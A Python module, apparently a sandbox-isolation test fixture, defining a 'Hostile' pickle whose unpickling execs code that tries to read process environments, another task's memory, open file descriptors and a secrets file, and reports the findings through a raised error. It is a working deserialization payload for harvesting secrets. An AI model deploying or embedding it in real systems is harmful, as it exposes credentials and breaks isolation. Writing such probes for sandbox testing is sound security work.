"""A pickle that looks for secrets wherever it can while it is read, and tells what it has seen by failing."""

import json
from collections.abc import Callable
from typing import Any

CODE = """
import ctypes, glob, json, mmap, os, resource, socket, subprocess

def attempt(action):
    try:
        return action() or "nothing"
    except BaseException as error:
        return f"refused: {type(error).__name__}"

def read(path):
    with open(path, "rb") as file:
        return file.read(1_000_000).decode("latin-1")

def every(pattern):
    seen = [attempt(lambda path=path: read(path)) for path in glob.glob(pattern)]
    return [text for text in seen if not text.startswith("refused")]

def chain():
    pid, seen = os.getpid(), []
    while pid > 1:
        pid = int(read(f"/proc/{pid}/stat").rpartition(")")[2].split()[1])
        seen.append(read(f"/proc/{pid}/environ"))
    return seen

def memory_of(pid):
    local = ctypes.create_string_buffer(16)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(local), 16)
    other = (ctypes.c_size_t * 2)(OTHER, 16)
    if ctypes.CDLL(None, use_errno=True).process_vm_readv(pid, vector, 1, other, 1, 0) < 0:
        raise PermissionError(ctypes.get_errno())
    return local.raw.decode("latin-1")

def system(*arguments):
    answer = ctypes.CDLL(None, use_errno=True).syscall(*arguments)
    if answer < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return answer

def datagram():
    socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"x", SECRETS)

raise RuntimeError(json.dumps({
    "environment": dict(os.environ),
    "descriptors": {fd: attempt(lambda: os.readlink(f"/proc/self/fd/{fd}")) for fd in os.listdir("/proc/self/fd")},
    "the task's environment": attempt(lambda: read(f"/proc/{TASK}/environ")),
    "environments of its makers": attempt(chain),
    "environments of others": every("/proc/[0-9]*/environ"),
    "the task's memory": attempt(lambda: memory_of(TASK)),
    "the task's files": attempt(lambda: os.listdir(f"/proc/{TASK}/fd")),
    "a file of secrets": attempt(lambda: read(SECRETS)),
    "a shell": attempt(lambda: subprocess.run(["cat", SECRETS], capture_output=True, text=True).stdout),
    "a file to write": attempt(lambda: open(SECRETS, "w")),
    "a new file": attempt(lambda: open(SECRETS + ".new", "w")),
    "the network": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM)),
    "a socket of this machine": attempt(lambda: socket.socket(socket.AF_UNIX)),
    "a signal to the task": attempt(lambda: os.kill(TASK, 0)),
    "the task's limits": attempt(lambda: resource.prlimit(TASK, resource.RLIMIT_NOFILE)),
    "a file's rights": attempt(lambda: os.chmod(SECRETS, 0o600)),
    "a file's times": attempt(lambda: os.utime(SECRETS, (1, 1))),
    "a datagram": attempt(datagram),
    "a process": attempt(lambda: os.waitpid(os.fork() or os._exit(0), 0)),
    "a signal to its group": attempt(lambda: os.kill(0, 0)),
    "memory of nobody": attempt(lambda: mmap.mmap(-1, 4096)),
    "a file in memory": attempt(lambda: os.memfd_create("x")),
    "memory that stays": attempt(lambda: system({"x86_64": 30, "aarch64": 196}[os.uname().machine], 1 << 30, 0, 0)),
    "its own folder": attempt(lambda: open(os.environ.get("TMPDIR", "/tmp") + "/own", "w").write("x")),
}, default=str))
"""


class Hostile:
    """Unpickling it runs the code."""

    def __init__(self, **names: Any) -> None:
        self.code = "".join(f"{name} = {json.dumps(value)}\n" for name, value in names.items()) + CODE

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return exec, (self.code, {})
